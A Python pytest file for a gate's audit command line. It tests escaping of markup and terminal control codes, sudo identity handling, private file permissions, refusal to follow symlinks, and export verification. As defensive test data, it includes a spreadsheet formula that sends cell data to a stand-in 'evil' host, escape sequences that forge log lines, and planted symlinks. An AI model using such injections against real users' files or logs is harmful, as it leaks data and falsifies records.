"""Words of people do no harm: on a terminal, in a spreadsheet, as a file's name, as a caller's."""

from __future__ import annotations

import csv
import json
import os
import pwd
import sqlite3
import stat
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from gate.audit import Store, sidecar
from gate.cli import common
from gate.cli.audit.options import user
from gate.cli.status_view import view
from gate.core.domain import Event, EventKind, Reason, State
from gate.errors import StoreError
from tests.cli.audit.test_list_events import audit
from tests.logs import tampering

MARKUP = "[/x] cleaning :smile: [bold]now"
STATUS: dict[str, Any] = {
    "state": "closed",
    "gate": "gate-1",
    "since_s": 1.0,
    "faults": [],
    "lane": {"closed_by": [], "who": None, "why": None, "next_change": None, "next_open": None},
    "camera": {
        "fps": 15.0,
        "fps_wanted": 15,
        "age_s": 0.1,
        "dropped": 0,
        "late": 0,
        "stuck": 0,
        "problem": None,
    },
    "work": {"mean_ms": None},
    "relay": "safe",
    "inputs": [],
    "log": {"path": "audit.db", "sequence": 7, "unwritten": 0, "set_aside": None},
    "watchdog": {"limit_s": None},
    "board": {
        "temperature": None,
        "strain": [],
        "disk_free": None,
        "read_only": False,
        "clock_synchronised": True,
    },
    "settings": {"path": None, "digest": "0" * 64},
    "judging": {"model": "0" * 64, "threshold": 0.5},
    "version": "0",
    "pid": 1,
    "uptime_s": 1.0,
    "events": [],
}
"""What a gate says of itself, as far as the page of it needs."""


def said(store: Store, who: str, why: str | None, visit: int = 90) -> None:
    store.record(
        [
            Event(
                EventKind.OPERATOR_GRANTED,
                1.0,
                State.IDLE,
                State.GRANTED,
                Reason.OPERATOR,
                visit,
                who=who,
                detail=why,
            )
        ]
    )


def private(*places: Path) -> bool:
    return all(stat.S_IMODE(place.stat().st_mode) == 0o600 for place in places)


def test_an_operators_words_are_no_markup(busy: Store, path: Path) -> None:
    """Brackets in a reason or a name are shown as they are by every command."""
    said(busy, "[red]anna", MARKUP)
    on = ("--database", str(path))
    for words in (("list", "--limit", "3"), ("show", "90"), ("list", "--json", "--limit", "3")):
        result = audit(*words, *on)
        assert (result.exit_code, result.exception) == (0, None)
        assert MARKUP in result.output
        assert "[red]anna" in result.output
    for words in (("stats", "--since", "2026-05-01"), ("top", "reasons", "--since", "2026-05-01")):
        assert audit(*words, *on).exit_code == 0


def test_status_shows_words_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    """A close's reason and an event's words are no markup in the status, nor control signs."""
    lane = STATUS["lane"] | {"closed_by": ["operator"], "who": "[/x]", "why": MARKUP}
    events = [{"ago_s": 3.0, "text": f"closed: {MARKUP}\x1b[2J"}]
    common.console().print(view(STATUS | {"lane": lane, "events": events}))
    shown = capsys.readouterr().out
    assert shown.count(MARKUP) == 2
    assert "[/x]: [/x] cleaning" in shown
    assert "\x1b[2J" not in shown
    assert r"\u001b[2J" in shown


def test_a_console_takes_no_markup_from_a_file() -> None:
    """The one console of the commands has neither markup nor emoji nor highlighting."""
    out = common.console()
    assert isinstance(out, Console)
    with out.capture() as shown:
        out.print(MARKUP)
    assert shown.get() == MARKUP + "\n"


def test_words_that_steer_a_terminal_are_not_kept(busy: Store, path: Path) -> None:
    """What clears a screen or forges a line becomes '?' in the log."""
    said(busy, "bob\x1b[2J\nINJECTED granted", "a\u202eb\x9b31m")
    event = next(busy.records(newest_first=True)).event
    assert (event.who, event.detail) == ("bob?[2J?INJECTED granted", "a?b?31m")


def test_words_of_an_older_log_are_escaped(busy: Store, path: Path) -> None:
    """Control signs that stand in a log are shown as escapes, one event a line."""
    said(busy, "anna", "plain")
    with tampering(path) as log:
        log.execute(
            "UPDATE event SET who = 'bob' || char(27) || '[2J' || char(10) || 'x' || char(155)"
            " WHERE sequence = 22"
        )
    on = ("--database", str(path), "--limit", "1")
    for words in (("list",), ("list", "--json")):
        output = audit(*words, *on).output
        assert r"bob\u001b[2J" in output
        assert r"x\u009b" in output
        assert not {"\x1b", "\x9b"} & set(output)
    assert json.loads(output)["who"] == "bob\x1b[2J\nx\x9b"


def test_who_is_the_kernels_word(monkeypatch: pytest.MonkeyPatch) -> None:
    """LOGNAME and its like name nobody; under sudo its caller is named as well."""
    me = pwd.getpwuid(os.getuid()).pw_name
    for name in ("LOGNAME", "USER", "LNAME", "USERNAME", "SUDO_USER"):
        monkeypatch.setenv(name, "alice")
    monkeypatch.delenv("SUDO_UID", raising=False)
    assert user() == me
    other = next(it for it in pwd.getpwall() if it.pw_uid not in (os.getuid(), 0))
    monkeypatch.setenv("SUDO_UID", str(other.pw_uid))
    assert user() == f"{me} (sudo by {other.pw_name})"
    for wrong in ("", "anna", "-1", "9" * 40, str(os.getuid()), "²"):
        monkeypatch.setenv("SUDO_UID", wrong)
        assert user() == me
    monkeypatch.setenv("SUDO_UID", "999999999")
    assert user() == f"{me} (sudo by user 999999999)"


def test_a_spreadsheet_gets_no_formula(busy: Store, path: Path, tmp_path: Path) -> None:
    """With --for-spreadsheet no cell of words is calculated, and the file says what it isn't."""
    evil = ('=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(1)")
    for words in evil:
        said(busy, words, words)
    target = tmp_path / "may.csv"
    on = ("--database", str(path))
    assert audit("export", str(target), "--for-spreadsheet", *on).exit_code == 0
    with target.open(newline="", encoding="utf-8-sig") as file:
        cells = [row for row in csv.DictReader(file) if row["visit"] == "90"]
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    assert [row["who"] for row in cells] == [f"'{words}" for words in evil]
    assert [row["detail"] for row in cells] == [f"'{words}" for words in evil]
    manifest = json.loads((tmp_path / "may.csv.manifest.json").read_text())
    assert manifest["verifiable"] is False
    refused = audit("verify", "--database", str(target))
    assert refused.exit_code == 2
    assert "for a spreadsheet" in refused.output
    as_sqlite = ("--for-spreadsheet", "--format", "sqlite")
    assert isinstance(audit("export", str(target) + "2", *as_sqlite, *on).exception, StoreError)


def test_files_are_their_owners_only(busy: Store, path: Path, tmp_path: Path) -> None:
    """The log and what is made of it can be read by nobody else, whatever the umask."""
    old = os.umask(0)
    try:
        on = ("--database", str(path))
        for name, words in (
            ("may.csv", ("export",)),
            ("may.db", ("export", "--format", "sqlite")),
            ("left.csv", ("salvage",)),
        ):
            command, *rest = words
            assert audit(command, str(tmp_path / name), *rest, *on).exit_code == 0
        assert audit("backup", str(tmp_path / "usb"), *on).exit_code == 0
    finally:
        os.umask(old)
    made = [tmp_path / name for name in ("may.csv", "may.db", "left.csv")]
    manifests = [tmp_path / f"{name}.manifest.json" for name in ("may.csv", "may.db")]
    assert private(*made, *manifests, *(tmp_path / "usb").iterdir())
    assert private(*path.parent.glob("audit.db*"), path.with_name("audit.head.json"))
    assert stat.S_IMODE((tmp_path / "usb").stat().st_mode) == 0o700


def test_an_old_log_is_made_its_owners(busy: Store, path: Path) -> None:
    """A log that others could read, and lock, is closed to them when the gate opens it."""
    busy.close()
    path.chmod(0o644)
    with Store.open(path):
        assert private(path)


def test_an_old_file_beside_the_log_is_made_its_owners(path: Path) -> None:
    """What a program before this one left open to others is closed, though it says the same."""
    sidecar.write(path, "settings", {"camera.source": "rtsp://192.0.2.1/"})
    beside = path.with_name("audit.settings.json")
    beside.chmod(0o640)
    sidecar.write(path, "settings", {"camera.source": "rtsp://192.0.2.1/"})
    assert private(beside)


@pytest.mark.parametrize("name", ["may.csv", "may.csv.manifest.json", "may.csv.partial"])
@pytest.mark.parametrize("words", [("export",), ("export", "--format", "sqlite"), ("salvage",)])
@pytest.mark.parametrize("there", [True, False])
def test_no_link_is_followed(
    busy: Store, path: Path, tmp_path: Path, name: str, words: tuple[str, ...], *, there: bool
) -> None:
    """A link where a file is to be made leads nowhere: its target is as it was."""
    victim = tmp_path / "victim"
    if there:
        victim.write_text("mine")
    folder = tmp_path / "shared"
    folder.mkdir()
    for suffix in ("", ".part"):
        (folder / (name + suffix)).symlink_to(victim)
    command, *rest = words
    audit(command, str(folder / "may.csv"), *rest, "--database", str(path))
    assert victim.exists() is there
    assert not there or victim.read_text() == "mine"


def test_an_export_of_an_older_program_still_verifies(path: Path, tmp_path: Path) -> None:
    """Exports name the rule; one without it is by rule 1, as smile-gate 0.1.0 made them."""
    from tests.audit.test_migrations import restored

    restored("words", path)
    with Store.open(path) as store:
        said(store, "anna", "new")
    on = ("--database", str(path))
    target = tmp_path / "may.csv"
    assert audit("export", str(target), *on).exit_code == 0
    with target.open(newline="") as file:
        rows = list(csv.DictReader(file))
    rules = [row["rule"] for row in rows]
    begun = [row["event"] for row in rows].index("log_begun")
    assert rules == ["1"] * begun + ["2"] * (len(rows) - begun)
    verified = audit("verify", "--database", str(target))
    assert verified.exit_code == 0, verified.output


def test_erased_words_are_verified_in_an_export(busy: Store, path: Path, tmp_path: Path) -> None:
    """An export says which words were erased; a row that lost its words otherwise is changed."""
    said(busy, "anna", "a pram")
    on = ("--database", str(path))
    erased = audit("erase", "22", "--reason", "asked for", *on)
    assert erased.exit_code == 0, erased.output
    target = tmp_path / "may.csv"
    assert audit("export", str(target), "--no-record", *on).exit_code == 0
    assert "anna" not in target.read_text()
    assert audit("verify", "--database", str(target)).exit_code == 0
    manifest = target.with_name("may.csv.manifest.json")
    content = json.loads(manifest.read_text())
    assert content["erased"] == [22]
    manifest.write_text(json.dumps(content | {"erased": []}))
    assert "lacks its words" in audit("verify", "--database", str(target)).output


@pytest.mark.parametrize(
    ("text", "manifest"),
    [
        ('sequence,time\n1,"open quote', None),
        ("sequence," + "x" * 140_000 + "\n1,2\n", None),
        (None, "[" * 100_000),
        (None, "[]"),
        (None, '{"events": 1e400}'),
        (None, "\xff"),
    ],
)
def test_a_broken_export_is_one_line(
    busy: Store, path: Path, tmp_path: Path, text: str | None, manifest: str | None
) -> None:
    """Whatever is in the file or its manifest: exit code 2 and a line, never a traceback."""
    target = tmp_path / "may.csv"
    said(busy, "anna", None)
    assert audit("export", str(target), "--database", str(path)).exit_code == 0
    if text is not None:
        target.write_text(text)
    if manifest is not None:
        (tmp_path / "may.csv.manifest.json").write_text(manifest, encoding="latin-1")
    result = audit("verify", "--database", str(target))
    assert result.exit_code == 2
    assert len(result.output.splitlines()) == 1


def test_sqlite_can_read_what_was_exported(busy: Store, path: Path, tmp_path: Path) -> None:
    """An SQLite export has each event with its rule and the digest of its words."""
    said(busy, "anna", "a pram")
    target = tmp_path / "may.db"
    assert (
        audit("export", str(target), "--format", "sqlite", "--database", str(path)).exit_code == 0
    )
    log = sqlite3.connect(target)
    rows = log.execute("SELECT sequence, rule, words FROM event WHERE who IS NOT NULL").fetchall()
    log.close()
    assert [(sequence, rule, len(words)) for sequence, rule, words in rows] == [(22, 2, 64)]
